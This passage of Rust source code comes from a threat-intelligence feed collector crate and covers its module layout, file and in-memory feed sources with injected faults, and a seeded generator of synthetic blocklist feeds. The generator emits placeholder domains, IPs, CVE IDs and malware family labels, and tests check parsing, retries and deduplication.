        tracker.record_batch(&[record("stale.ru", "stale", now.add_days(-60))], now);
        let fresh = tracker.stats("fresh").unwrap().grade();
        let stale = tracker.stats("stale").unwrap().grade();
        assert!(fresh > stale, "{fresh} !> {stale}");
        assert_eq!(
            tracker.stats("stale").unwrap().mean_age_days().round(),
            60.0
        );
    }

    #[test]
    fn reliability_tracks_fetch_outcomes() {
        let mut tracker = QualityTracker::new();
        tracker.record_fetch("flaky", true);
        tracker.record_fetch("flaky", false);
        tracker.record_fetch("flaky", false);
        let stats = tracker.stats("flaky").unwrap();
        assert!((stats.reliability() - 1.0 / 3.0).abs() < 1e-12);
        // A feed that never fetched is presumed reliable.
        assert_eq!(FeedStats::default().reliability(), 1.0);
    }

    #[test]
    fn grades_stay_in_score_range() {
        let now = Timestamp::from_ymd_hms(2019, 4, 2, 0, 0, 0);
        let mut tracker = QualityTracker::new();
        for i in 0..50 {
            tracker.record_batch(
                &[record(&format!("{i}.ru"), "feed", now.add_days(-(i % 90)))],
                now,
            );
        }
        let grade = tracker.stats("feed").unwrap().grade();
        assert!((0.0..=5.0).contains(&grade));
    }

    #[test]
    fn empty_stats_are_sane() {
        let stats = FeedStats::default();
        assert_eq!(stats.unique_ratio(), 0.0);
        assert_eq!(stats.mean_age_days(), 0.0);
        assert!((0.0..=5.0).contains(&stats.grade()));
    }
}
