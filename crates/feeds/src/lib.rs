//! # cais-feeds
//!
//! OSINT feed ingestion: the formats real feeds publish (plaintext
//! blocklists, CSV, MISP feed JSON), pluggable sources with failure and
//! latency injection, a polling scheduler, and a synthetic feed
//! generator with controllable duplication — the load-bearing parameter
//! for the paper's deduplication/aggregation claims.
//!
//! The paper's OSINT Data Collector "is configured with different types
//! of OSINT feeds (e.g., malware domains, vulnerability exploitation)
//! provided by several sources" and must normalize plaintext and CSV
//! data into a common format (Section III-A1). This crate is that
//! collector's front end.
//!
//! # Examples
//!
//! ```
//! use cais_feeds::{parse, FeedFormat, ThreatCategory};
//!
//! let text = "# malware domains\nevil.example\nc2.evil.example\n";
//! let records = parse::plaintext::parse(text, "my-feed", ThreatCategory::MalwareDomain)?;
//! assert_eq!(records.len(), 2);
//! assert_eq!(records[0].source, "my-feed");
//! # Ok::<(), cais_feeds::FeedError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod error;
mod model;
pub mod parse;
pub mod quality;
pub mod resilient;
mod scheduler;
mod source;
pub mod synth;
pub mod telemetry;

pub use error::FeedError;
pub use model::{FeedFormat, FeedRecord, ThreatCategory};
pub use quality::QualityTracker;
pub use resilient::{ResilienceConfig, ResilientSource, RoundOutcome};
pub use scheduler::{FeedScheduler, SchedulerHandle, SchedulerStats};
pub use source::{FeedSource, FileSource, FlakySource, MemorySource};
pub use telemetry::FeedIngestMetrics;
