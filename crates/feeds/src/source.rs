//! Feed sources: where payloads come from.
//!
//! A [`FeedSource`] yields raw payload text plus the metadata needed to
//! parse it. Production deployments would implement this trait over
//! HTTP; here the implementations are a file source, an in-memory source
//! and a failure-injecting wrapper, which together exercise every code
//! path the collector has (including retry behaviour).

use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, Ordering};

use parking_lot::Mutex;

use crate::{parse, FeedError, FeedFormat, FeedRecord, ThreatCategory};

/// A configured source of feed payloads.
///
/// Implementations must be thread-safe: the scheduler polls sources from
/// a background thread.
pub trait FeedSource: Send + Sync {
    /// Stable name identifying the feed (used as `FeedRecord::source`).
    fn name(&self) -> &str;

    /// The format payloads arrive in.
    fn format(&self) -> FeedFormat;

    /// The threat category this feed reports on.
    fn category(&self) -> ThreatCategory;

    /// Fetches the current payload.
    ///
    /// # Errors
    ///
    /// Returns [`FeedError::Fetch`] when the payload cannot be retrieved.
    fn fetch(&self) -> Result<String, FeedError>;

    /// Fetches and parses in one step.
    ///
    /// # Errors
    ///
    /// Propagates fetch and parse errors.
    fn collect(&self) -> Result<Vec<FeedRecord>, FeedError> {
        let payload = self.fetch()?;
        parse::parse_payload(self.format(), &payload, self.name(), self.category())
    }
}

/// A source serving a fixed in-memory payload (swappable at runtime).
pub struct MemorySource {
    name: String,
    format: FeedFormat,
    category: ThreatCategory,
    payload: Mutex<String>,
}

impl MemorySource {
    /// Creates a source serving `payload`.
    pub fn new(
        name: impl Into<String>,
        format: FeedFormat,
        category: ThreatCategory,
        payload: impl Into<String>,
    ) -> Self {
        MemorySource {
            name: name.into(),
            format,
            category,
            payload: Mutex::new(payload.into()),
        }
    }

    /// Replaces the payload (simulating the feed publishing an update).
    pub fn set_payload(&self, payload: impl Into<String>) {
        *self.payload.lock() = payload.into();
    }
}

impl FeedSource for MemorySource {
    fn name(&self) -> &str {
        &self.name
    }

    fn format(&self) -> FeedFormat {
        self.format
    }

    fn category(&self) -> ThreatCategory {
        self.category
    }

    fn fetch(&self) -> Result<String, FeedError> {
        Ok(self.payload.lock().clone())
    }
}

impl std::fmt::Debug for MemorySource {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("MemorySource")
            .field("name", &self.name)
            .field("format", &self.format)
            .finish()
    }
}

/// A source reading its payload from a file on each fetch.
#[derive(Debug)]
pub struct FileSource {
    name: String,
    format: FeedFormat,
    category: ThreatCategory,
    path: PathBuf,
}

impl FileSource {
    /// Creates a file-backed source.
    pub fn new(
        name: impl Into<String>,
        format: FeedFormat,
        category: ThreatCategory,
        path: impl Into<PathBuf>,
    ) -> Self {
        FileSource {
            name: name.into(),
            format,
            category,
            path: path.into(),
        }
    }
}

impl FeedSource for FileSource {
    fn name(&self) -> &str {
        &self.name
    }

    fn format(&self) -> FeedFormat {
        self.format
    }

    fn category(&self) -> ThreatCategory {
        self.category
    }

    fn fetch(&self) -> Result<String, FeedError> {
        std::fs::read_to_string(&self.path)
            .map_err(|e| FeedError::fetch(&self.name, format!("{}: {e}", self.path.display())))
    }
}

/// A wrapper injecting deterministic fetch failures: every `period`-th
/// fetch fails. Exercises the scheduler's retry path.
pub struct FlakySource<S> {
    inner: S,
    period: u64,
    counter: AtomicU64,
}

impl<S: FeedSource> FlakySource<S> {
    /// Wraps `inner` so that fetches numbered `period`, `2·period`, …
    /// fail (1-based). A period of 1 makes every fetch fail.
    ///
    /// # Panics
    ///
    /// Panics if `period` is zero.
    pub fn new(inner: S, period: u64) -> Self {
        assert!(period > 0, "period must be positive");
        FlakySource {
            inner,
            period,
            counter: AtomicU64::new(0),
        }
    }

    /// Total fetch attempts so far.
    pub fn attempts(&self) -> u64 {
        self.counter.load(Ordering::Relaxed)
    }
}

impl<S: FeedSource> FeedSource for FlakySource<S> {
    fn name(&self) -> &str {
        self.inner.name()
    }

    fn format(&self) -> FeedFormat {
        self.inner.format()
    }

    fn category(&self) -> ThreatCategory {
        self.inner.category()
    }

    fn fetch(&self) -> Result<String, FeedError> {
        let attempt = self.counter.fetch_add(1, Ordering::Relaxed) + 1;
        if attempt.is_multiple_of(self.period) {
            Err(FeedError::fetch(
                self.inner.name(),
                format!("injected failure on attempt {attempt}"),
            ))
        } else {
            self.inner.fetch()
        }
    }
}

impl<S: std::fmt::Debug> std::fmt::Debug for FlakySource<S> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("FlakySource")
            .field("inner", &self.inner)
            .field("period", &self.period)
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mem(payload: &str) -> MemorySource {
        MemorySource::new(
            "test-feed",
            FeedFormat::PlainText,
            ThreatCategory::MalwareDomain,
            payload,
        )
    }

    #[test]
    fn memory_source_collects() {
        let source = mem("evil.example\n");
        let records = source.collect().unwrap();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].source, "test-feed");
    }

    #[test]
    fn memory_source_payload_updates() {
        let source = mem("evil.example\n");
        source.set_payload("a.example\nb.example\n");
        assert_eq!(source.collect().unwrap().len(), 2);
    }

    #[test]
    fn file_source_reads_and_reports_missing() {
        let dir = std::env::temp_dir().join("cais-feeds-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("list.txt");
        std::fs::write(&path, "evil.example\n").unwrap();
        let source = FileSource::new(
            "file-feed",
            FeedFormat::PlainText,
            ThreatCategory::MalwareDomain,
            &path,
        );
        assert_eq!(source.collect().unwrap().len(), 1);

        let missing = FileSource::new(
            "missing",
            FeedFormat::PlainText,
            ThreatCategory::MalwareDomain,
            dir.join("no-such-file.txt"),
        );
        assert!(matches!(missing.fetch(), Err(FeedError::Fetch { .. })));
    }

    #[test]
    fn flaky_source_fails_periodically() {
        let source = FlakySource::new(mem("evil.example\n"), 3);
        assert!(source.fetch().is_ok()); // 1
        assert!(source.fetch().is_ok()); // 2
        assert!(source.fetch().is_err()); // 3
        assert!(source.fetch().is_ok()); // 4
        assert_eq!(source.attempts(), 4);
    }

    #[test]
    #[should_panic(expected = "period must be positive")]
    fn flaky_zero_period_panics() {
        let _ = FlakySource::new(mem(""), 0);
    }

    #[test]
    fn sources_are_object_safe() {
        let sources: Vec<Box<dyn FeedSource>> = vec![
            Box::new(mem("evil.example\n")),
            Box::new(FlakySource::new(mem("evil.example\n"), 2)),
        ];
        assert_eq!(sources.len(), 2);
        assert!(sources[0].collect().is_ok());
    }
}
