//! Feed sources: where payloads come from.
//!
//! A [`FeedSource`] yields raw payload text plus the metadata needed to
//! parse it. Production deployments would implement this trait over
//! HTTP; here the implementations are a file source, an in-memory source
//! and a failure-injecting wrapper, which together exercise every code
//! path the collector has (including retry behaviour).

use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, Ordering};

use cais_common::resilience::{mangle_payload, FaultKind, FaultPlan};
use parking_lot::Mutex;

use crate::{parse, FeedError, FeedFormat, FeedRecord, ThreatCategory};

/// A configured source of feed payloads.
///
/// Implementations must be thread-safe: the scheduler polls sources from
/// a background thread.
pub trait FeedSource: Send + Sync {
    /// Stable name identifying the feed (used as `FeedRecord::source`).
    fn name(&self) -> &str;

    /// The format payloads arrive in.
    fn format(&self) -> FeedFormat;

    /// The threat category this feed reports on.
    fn category(&self) -> ThreatCategory;

    /// Fetches the current payload.
    ///
    /// # Errors
    ///
    /// Returns [`FeedError::Fetch`] when the payload cannot be retrieved.
    fn fetch(&self) -> Result<String, FeedError>;

    /// Fetches and parses in one step.
    ///
    /// # Errors
    ///
    /// Propagates fetch and parse errors.
    fn collect(&self) -> Result<Vec<FeedRecord>, FeedError> {
        let payload = self.fetch()?;
        parse::parse_payload(self.format(), &payload, self.name(), self.category())
    }
}

/// A source serving a fixed in-memory payload (swappable at runtime).
pub struct MemorySource {
    name: String,
    format: FeedFormat,
    category: ThreatCategory,
    payload: Mutex<String>,
}

impl MemorySource {
    /// Creates a source serving `payload`.
    pub fn new(
        name: impl Into<String>,
        format: FeedFormat,
        category: ThreatCategory,
        payload: impl Into<String>,
    ) -> Self {
        MemorySource {
            name: name.into(),
            format,
            category,
            payload: Mutex::new(payload.into()),
        }
    }

    /// Replaces the payload (simulating the feed publishing an update).
    pub fn set_payload(&self, payload: impl Into<String>) {
        *self.payload.lock() = payload.into();
    }
}

impl FeedSource for MemorySource {
    fn name(&self) -> &str {
        &self.name
    }

    fn format(&self) -> FeedFormat {
        self.format
    }

    fn category(&self) -> ThreatCategory {
        self.category
    }

    fn fetch(&self) -> Result<String, FeedError> {
        Ok(self.payload.lock().clone())
    }
}

impl std::fmt::Debug for MemorySource {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("MemorySource")
            .field("name", &self.name)
            .field("format", &self.format)
            .finish()
    }
}

/// A source reading its payload from a file on each fetch.
#[derive(Debug)]
pub struct FileSource {
    name: String,
    format: FeedFormat,
    category: ThreatCategory,
    path: PathBuf,
}

impl FileSource {
    /// Creates a file-backed source.
    pub fn new(
        name: impl Into<String>,
        format: FeedFormat,
        category: ThreatCategory,
        path: impl Into<PathBuf>,
    ) -> Self {
        FileSource {
            name: name.into(),
            format,
            category,
            path: path.into(),
        }
    }
}

impl FeedSource for FileSource {
    fn name(&self) -> &str {
        &self.name
    }

    fn format(&self) -> FeedFormat {
        self.format
    }

    fn category(&self) -> ThreatCategory {
        self.category
    }

    fn fetch(&self) -> Result<String, FeedError> {
        std::fs::read_to_string(&self.path)
            .map_err(|e| FeedError::fetch(&self.name, format!("{}: {e}", self.path.display())))
    }
}

/// A wrapper injecting deterministic faults into an inner source.
///
/// The modern constructor is [`FlakySource::scripted`]: faults come
/// from a shared [`FaultPlan`] site, covering every scriptable kind —
/// fetch errors, parse garbage, truncated payloads and duplicate
/// replays. The legacy every-`period`-th-fetch-fails constructor
/// remains for old tests but is deprecated.
pub struct FlakySource<S> {
    inner: S,
    mode: FlakyMode,
    counter: AtomicU64,
    last_payload: Mutex<Option<String>>,
}

enum FlakyMode {
    /// Legacy: fetches numbered `period`, `2·period`, … fail (1-based).
    Period(u64),
    /// Faults scripted by a shared plan under a named site.
    Plan { plan: FaultPlan, site: String },
}

impl<S: FeedSource> FlakySource<S> {
    /// Wraps `inner` so that fetches numbered `period`, `2·period`, …
    /// fail (1-based). A period of 1 makes every fetch fail.
    ///
    /// # Panics
    ///
    /// Panics if `period` is zero.
    #[deprecated(
        since = "0.1.0",
        note = "use FlakySource::scripted with a FaultPlan (every_nth mode reproduces period semantics)"
    )]
    pub fn new(inner: S, period: u64) -> Self {
        assert!(period > 0, "period must be positive");
        FlakySource {
            inner,
            mode: FlakyMode::Period(period),
            counter: AtomicU64::new(0),
            last_payload: Mutex::new(None),
        }
    }

    /// Wraps `inner` so every fetch consults `plan` at `site`. Error
    /// and ack-lost faults fail the fetch; garbage, truncation and
    /// replay mangle the payload (replay serves the last payload this
    /// wrapper delivered); delays pass through unchanged — payload
    /// fetching has no clock to stall.
    pub fn scripted(inner: S, plan: FaultPlan, site: impl Into<String>) -> Self {
        FlakySource {
            inner,
            mode: FlakyMode::Plan {
                plan,
                site: site.into(),
            },
            counter: AtomicU64::new(0),
            last_payload: Mutex::new(None),
        }
    }

    /// Total fetch attempts so far.
    pub fn attempts(&self) -> u64 {
        self.counter.load(Ordering::Relaxed)
    }
}

impl<S: FeedSource> FeedSource for FlakySource<S> {
    fn name(&self) -> &str {
        self.inner.name()
    }

    fn format(&self) -> FeedFormat {
        self.inner.format()
    }

    fn category(&self) -> ThreatCategory {
        self.inner.category()
    }

    fn fetch(&self) -> Result<String, FeedError> {
        let attempt = self.counter.fetch_add(1, Ordering::Relaxed) + 1;
        let fault = match &self.mode {
            FlakyMode::Period(period) => {
                attempt.is_multiple_of(*period).then_some(FaultKind::Error)
            }
            FlakyMode::Plan { plan, site } => plan.next(site),
        };
        match fault {
            Some(FaultKind::Error) | Some(FaultKind::AckLost) => Err(FeedError::fetch(
                self.inner.name(),
                format!("injected failure on attempt {attempt}"),
            )),
            Some(kind @ (FaultKind::Garbage | FaultKind::Truncate | FaultKind::Replay)) => {
                let payload = self.inner.fetch()?;
                let previous = self.last_payload.lock().clone();
                Ok(mangle_payload(kind, payload, previous.as_deref()))
            }
            Some(FaultKind::Delay(_)) | None => {
                let payload = self.inner.fetch()?;
                *self.last_payload.lock() = Some(payload.clone());
                Ok(payload)
            }
        }
    }
}

impl<S: std::fmt::Debug> std::fmt::Debug for FlakySource<S> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let mut s = f.debug_struct("FlakySource");
        s.field("inner", &self.inner);
        match &self.mode {
            FlakyMode::Period(period) => s.field("period", period),
            FlakyMode::Plan { site, .. } => s.field("site", site),
        };
        s.finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mem(payload: &str) -> MemorySource {
        MemorySource::new(
            "test-feed",
            FeedFormat::PlainText,
            ThreatCategory::MalwareDomain,
            payload,
        )
    }

    #[test]
    fn memory_source_collects() {
        let source = mem("evil.example\n");
        let records = source.collect().unwrap();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].source, "test-feed");
    }

    #[test]
    fn memory_source_payload_updates() {
        let source = mem("evil.example\n");
        source.set_payload("a.example\nb.example\n");
        assert_eq!(source.collect().unwrap().len(), 2);
    }

    #[test]
    fn file_source_reads_and_reports_missing() {
        let dir = std::env::temp_dir().join("cais-feeds-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("list.txt");
        std::fs::write(&path, "evil.example\n").unwrap();
        let source = FileSource::new(
            "file-feed",
            FeedFormat::PlainText,
            ThreatCategory::MalwareDomain,
            &path,
        );
        assert_eq!(source.collect().unwrap().len(), 1);

        let missing = FileSource::new(
            "missing",
            FeedFormat::PlainText,
            ThreatCategory::MalwareDomain,
            dir.join("no-such-file.txt"),
        );
        assert!(matches!(missing.fetch(), Err(FeedError::Fetch { .. })));
    }

    #[test]
    #[allow(deprecated)]
    fn flaky_source_fails_periodically() {
        let source = FlakySource::new(mem("evil.example\n"), 3);
        assert!(source.fetch().is_ok()); // 1
        assert!(source.fetch().is_ok()); // 2
        assert!(source.fetch().is_err()); // 3
        assert!(source.fetch().is_ok()); // 4
        assert_eq!(source.attempts(), 4);
    }

    #[test]
    #[allow(deprecated)]
    #[should_panic(expected = "period must be positive")]
    fn flaky_zero_period_panics() {
        let _ = FlakySource::new(mem(""), 0);
    }

    #[test]
    fn scripted_source_walks_the_fault_taxonomy() {
        let plan = FaultPlan::new(7).script(
            "feed:test",
            vec![
                None,                      // healthy, caches the payload
                Some(FaultKind::Error),    // fetch fails
                Some(FaultKind::Garbage),  // unparseable payload
                Some(FaultKind::Truncate), // cut short
                Some(FaultKind::Replay),   // duplicate of the cached payload
            ],
        );
        let source = FlakySource::scripted(mem("evil.example\ntwo.example\n"), plan, "feed:test");

        assert_eq!(source.collect().unwrap().len(), 2);
        assert!(matches!(source.fetch(), Err(FeedError::Fetch { .. })));
        // Garbage fetches fine but cannot parse.
        assert!(matches!(source.collect(), Err(FeedError::Parse { .. })));
        let truncated = source.fetch().unwrap();
        assert!(truncated.len() < "evil.example\ntwo.example\n".len());
        // Replay serves the last *healthy* payload verbatim.
        assert_eq!(source.fetch().unwrap(), "evil.example\ntwo.example\n");
        // Script exhausted: healthy again.
        assert_eq!(source.collect().unwrap().len(), 2);
        assert_eq!(source.attempts(), 6);
    }

    #[test]
    fn scripted_every_nth_reproduces_period_semantics() {
        let plan = FaultPlan::new(0).every_nth("feed:p", 2, FaultKind::Error);
        let source = FlakySource::scripted(mem("evil.example\n"), plan, "feed:p");
        assert!(source.fetch().is_ok());
        assert!(source.fetch().is_err());
        assert!(source.fetch().is_ok());
        assert!(source.fetch().is_err());
    }

    #[test]
    fn sources_are_object_safe() {
        let sources: Vec<Box<dyn FeedSource>> = vec![
            Box::new(mem("evil.example\n")),
            Box::new(FlakySource::scripted(
                mem("evil.example\n"),
                FaultPlan::new(0).every_nth("feed:obj", 2, FaultKind::Error),
                "feed:obj",
            )),
        ];
        assert_eq!(sources.len(), 2);
        assert!(sources[0].collect().is_ok());
    }
}
