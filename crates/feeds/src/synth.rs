//! Synthetic OSINT feed generation.
//!
//! The paper evaluates its collector on live OSINT feeds we cannot
//! fetch; this generator produces statistically controllable substitutes
//! in the same wire formats. Two parameters drive the platform's
//! behaviour and are therefore first-class here:
//!
//! * **duplicate rate** — how often a feed repeats a value it already
//!   published (feeds re-announce active indicators on every fetch);
//! * **overlap rate** — how often different feeds publish the same value
//!   (popular C2s appear on many blocklists). The paper's deduplicator
//!   exists precisely because "distinct feeds can provide the same
//!   data" (Section III-A1).
//!
//! Generation is fully seeded: the same config yields byte-identical
//! feeds, making benchmarks reproducible.

use cais_common::{Observable, ObservableKind, Timestamp};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

use crate::{FeedFormat, FeedRecord, ThreatCategory};

/// Configuration for a set of synthetic feeds.
#[derive(Debug, Clone)]
pub struct SyntheticConfig {
    /// RNG seed; equal seeds yield identical feed sets.
    pub seed: u64,
    /// Number of feeds to generate.
    pub feeds: usize,
    /// Records per feed.
    pub records_per_feed: usize,
    /// Probability a record repeats an earlier value *within* its feed.
    pub duplicate_rate: f64,
    /// Probability a record draws from the shared cross-feed pool.
    pub overlap_rate: f64,
    /// Categories to cycle feeds through.
    pub categories: Vec<ThreatCategory>,
    /// Wire format each feed publishes in (cycled per feed when more
    /// than one is listed).
    pub formats: Vec<FeedFormat>,
    /// Timestamp records are stamped around.
    pub base_time: Timestamp,
}

impl Default for SyntheticConfig {
    fn default() -> Self {
        SyntheticConfig {
            seed: 0,
            feeds: 4,
            records_per_feed: 250,
            duplicate_rate: 0.2,
            overlap_rate: 0.3,
            categories: ThreatCategory::ALL.to_vec(),
            formats: vec![FeedFormat::PlainText, FeedFormat::Csv, FeedFormat::MispFeed],
            base_time: Timestamp::from_ymd_hms(2019, 4, 2, 0, 0, 0),
        }
    }
}

/// One generated feed: its payload text plus the ground-truth records it
/// encodes.
#[derive(Debug, Clone)]
pub struct SyntheticFeed {
    /// Feed name (`synthetic-feed-3`).
    pub name: String,
    /// The wire format of `payload`.
    pub format: FeedFormat,
    /// The feed's threat category.
    pub category: ThreatCategory,
    /// The serialized payload, parseable by [`crate::parse::parse_payload`].
    pub payload: String,
    /// The records the payload encodes, in order.
    pub records: Vec<FeedRecord>,
}

/// A complete generated feed set with ground truth.
#[derive(Debug, Clone)]
pub struct SyntheticFeedSet {
    /// The generated feeds.
    pub feeds: Vec<SyntheticFeed>,
}

impl SyntheticFeedSet {
    /// Generates a feed set from the configuration.
    ///
    /// # Examples
    ///
    /// ```
    /// use cais_feeds::synth::{SyntheticConfig, SyntheticFeedSet};
    ///
    /// let set = SyntheticFeedSet::generate(&SyntheticConfig {
    ///     feeds: 3,
    ///     records_per_feed: 50,
    ///     ..SyntheticConfig::default()
    /// });
    /// assert_eq!(set.feeds.len(), 3);
    /// assert!(set.unique_record_count() <= set.total_record_count());
    /// ```
    pub fn generate(config: &SyntheticConfig) -> Self {
        let mut rng = StdRng::seed_from_u64(config.seed);
        // Shared pool drawn on by every feed (cross-feed overlap).
        let mut shared_pool: Vec<(ThreatCategory, Observable, Option<String>)> = Vec::new();
        let mut feeds = Vec::with_capacity(config.feeds);
        for feed_idx in 0..config.feeds {
            let category = config.categories[feed_idx % config.categories.len().max(1)];
            let format = config.formats[feed_idx % config.formats.len().max(1)];
            let name = format!("synthetic-feed-{feed_idx}");
            let mut records: Vec<FeedRecord> = Vec::with_capacity(config.records_per_feed);
            for record_idx in 0..config.records_per_feed {
                let seen_at = config
                    .base_time
                    .add_millis(rng.gen_range(0..86_400_000 * 30));
                let record = if !records.is_empty() && rng.gen_bool(config.duplicate_rate) {
                    // Repeat an earlier record of this feed verbatim
                    // (fresh timestamp, same value).
                    let mut dup = records[rng.gen_range(0..records.len())].clone();
                    dup.seen_at = seen_at;
                    dup
                } else if !shared_pool.is_empty() && rng.gen_bool(config.overlap_rate) {
                    // Draw a value another feed also publishes. The
                    // record takes *this* feed's category — that is all
                    // the wire formats carry, so ground truth and
                    // re-parsed records must agree on it.
                    let (_, observable, cve) =
                        shared_pool.choose(&mut rng).expect("non-empty").clone();
                    let mut r = FeedRecord::new(observable, category, &name, seen_at);
                    r.cve = cve;
                    r
                } else {
                    let (observable, cve, description) =
                        fresh_value(&mut rng, category, feed_idx, record_idx);
                    let mut r = FeedRecord::new(observable, category, &name, seen_at);
                    r.cve = cve;
                    r.description = description;
                    shared_pool.push((r.category, r.observable.clone(), r.cve.clone()));
                    r
                };
                records.push(record);
            }
            let payload = render(format, &records);
            feeds.push(SyntheticFeed {
                name,
                format,
                category,
                payload,
                records,
            });
        }
        SyntheticFeedSet { feeds }
    }

    /// Total records across all feeds.
    pub fn total_record_count(&self) -> usize {
        self.feeds.iter().map(|f| f.records.len()).sum()
    }

    /// Ground-truth number of distinct records (by dedup key) across all
    /// feeds — what a perfect deduplicator should output.
    pub fn unique_record_count(&self) -> usize {
        let mut keys: Vec<String> = self
            .feeds
            .iter()
            .flat_map(|f| f.records.iter().map(FeedRecord::dedup_key))
            .collect();
        keys.sort_unstable();
        keys.dedup();
        keys.len()
    }

    /// All records of all feeds, flattened in feed order.
    pub fn all_records(&self) -> Vec<FeedRecord> {
        self.feeds.iter().flat_map(|f| f.records.clone()).collect()
    }
}

/// Generates a fresh, feed-unique indicator for a category.
fn fresh_value(
    rng: &mut StdRng,
    category: ThreatCategory,
    feed_idx: usize,
    record_idx: usize,
) -> (Observable, Option<String>, Option<String>) {
    const SYLLABLES: &[&str] = &[
        "dark", "zero", "silent", "ghost", "cyber", "viper", "shadow", "crypt", "phantom", "nova",
        "storm", "rogue", "omega", "hydra", "raven",
    ];
    const TLDS: &[&str] = &["example", "test", "invalid"];
    const MALWARE: &[&str] = &[
        "emotet",
        "trickbot",
        "qakbot",
        "dridex",
        "ursnif",
        "agenttesla",
        "lokibot",
        "remcos",
    ];
    let tag = format!("{feed_idx}x{record_idx}");
    match category {
        ThreatCategory::MalwareDomain | ThreatCategory::Ransomware => {
            let domain = format!(
                "{}{}-{tag}.{}",
                SYLLABLES.choose(rng).expect("non-empty"),
                SYLLABLES.choose(rng).expect("non-empty"),
                TLDS.choose(rng).expect("non-empty"),
            );
            let family = *MALWARE.choose(rng).expect("non-empty");
            (
                Observable::new(ObservableKind::Domain, domain),
                None,
                Some(format!("{family} distribution domain")),
            )
        }
        ThreatCategory::CommandAndControl | ThreatCategory::Scanner => {
            let ip = format!(
                "{}.{}.{}.{}",
                rng.gen_range(1..=223u8),
                rng.gen_range(0..=255u8),
                rng.gen_range(0..=255u8),
                rng.gen_range(1..=254u8)
            );
            (
                Observable::new(ObservableKind::Ipv4, ip),
                None,
                Some(format!("{} node", MALWARE.choose(rng).expect("non-empty"))),
            )
        }
        ThreatCategory::Phishing => {
            let url = format!(
                "http://{}-{tag}.{}/login",
                SYLLABLES.choose(rng).expect("non-empty"),
                TLDS.choose(rng).expect("non-empty"),
            );
            (
                Observable::new(ObservableKind::Url, url),
                None,
                Some("credential phishing page".to_owned()),
            )
        }
        ThreatCategory::Spam => {
            let email = format!(
                "{}{}@{}-{tag}.{}",
                SYLLABLES.choose(rng).expect("non-empty"),
                rng.gen_range(0..100),
                SYLLABLES.choose(rng).expect("non-empty"),
                TLDS.choose(rng).expect("non-empty"),
            );
            (Observable::new(ObservableKind::Email, email), None, None)
        }
        ThreatCategory::VulnerabilityExploitation => {
            let cve = format!(
                "CVE-{}-{}",
                rng.gen_range(2014..=2019),
                rng.gen_range(1000..99999)
            );
            (
                Observable::new(ObservableKind::Cve, cve.clone()),
                Some(cve),
                Some("exploitation observed in the wild".to_owned()),
            )
        }
        ThreatCategory::MalwareSample => {
            let hash: String = (0..32)
                .map(|_| char::from_digit(rng.gen_range(0..16), 16).expect("hex digit"))
                .collect();
            // Guarantee at least one alphabetic hex digit so the value
            // detects as a hash.
            let hash = format!("a{}", &hash[1..]);
            (
                Observable::new(ObservableKind::Md5, hash),
                None,
                Some(format!(
                    "{} sample",
                    MALWARE.choose(rng).expect("non-empty")
                )),
            )
        }
    }
}

/// Serializes records in a wire format the parsers accept.
fn render(format: FeedFormat, records: &[FeedRecord]) -> String {
    match format {
        FeedFormat::PlainText => {
            let mut out = String::from("# synthetic feed\n");
            for r in records {
                out.push_str(r.observable.value());
                out.push('\n');
            }
            out
        }
        FeedFormat::Csv => {
            let mut out = String::from("firstseen,indicator,description,cve\n");
            for r in records {
                let description = r.description.clone().unwrap_or_default();
                let description = if description.contains(',') {
                    format!("\"{description}\"")
                } else {
                    description
                };
                out.push_str(&format!(
                    "{},{},{},{}\n",
                    r.seen_at.to_rfc3339(),
                    r.observable.value(),
                    description,
                    r.cve.clone().unwrap_or_default(),
                ));
            }
            out
        }
        FeedFormat::MispFeed => {
            let attributes: Vec<serde_json::Value> = records
                .iter()
                .map(|r| {
                    serde_json::json!({
                        "type": r.observable.kind().misp_attribute_type(),
                        "value": r.observable.value(),
                        "category": "Network activity",
                        "comment": r.description.clone().unwrap_or_default(),
                        "timestamp": r.seen_at.unix_secs().to_string(),
                    })
                })
                .collect();
            serde_json::json!({
                "Event": {
                    "info": "synthetic feed",
                    "date": "2019-04-02",
                    "Attribute": attributes,
                }
            })
            .to_string()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;

    #[test]
    fn generation_is_deterministic() {
        let config = SyntheticConfig::default();
        let a = SyntheticFeedSet::generate(&config);
        let b = SyntheticFeedSet::generate(&config);
        assert_eq!(a.feeds.len(), b.feeds.len());
        for (fa, fb) in a.feeds.iter().zip(&b.feeds) {
            assert_eq!(fa.payload, fb.payload);
            assert_eq!(fa.records, fb.records);
        }
    }

    #[test]
    fn duplicate_rate_controls_uniqueness() {
        let base = SyntheticConfig {
            feeds: 2,
            records_per_feed: 400,
            overlap_rate: 0.0,
            ..SyntheticConfig::default()
        };
        let none = SyntheticFeedSet::generate(&SyntheticConfig {
            duplicate_rate: 0.0,
            ..base.clone()
        });
        let heavy = SyntheticFeedSet::generate(&SyntheticConfig {
            duplicate_rate: 0.6,
            ..base
        });
        assert_eq!(none.unique_record_count(), none.total_record_count());
        assert!(
            heavy.unique_record_count() < heavy.total_record_count() / 2 + 100,
            "heavy duplication should shrink the unique set: {} of {}",
            heavy.unique_record_count(),
            heavy.total_record_count()
        );
    }

    #[test]
    fn payloads_reparse_to_ground_truth_values() {
        let set = SyntheticFeedSet::generate(&SyntheticConfig {
            feeds: 3,
            records_per_feed: 60,
            ..SyntheticConfig::default()
        });
        for feed in &set.feeds {
            let parsed =
                parse::parse_payload(feed.format, &feed.payload, &feed.name, feed.category)
                    .unwrap_or_else(|e| panic!("{}: {e}", feed.name));
            assert_eq!(
                parsed.len(),
                feed.records.len(),
                "{} ({:?})",
                feed.name,
                feed.format
            );
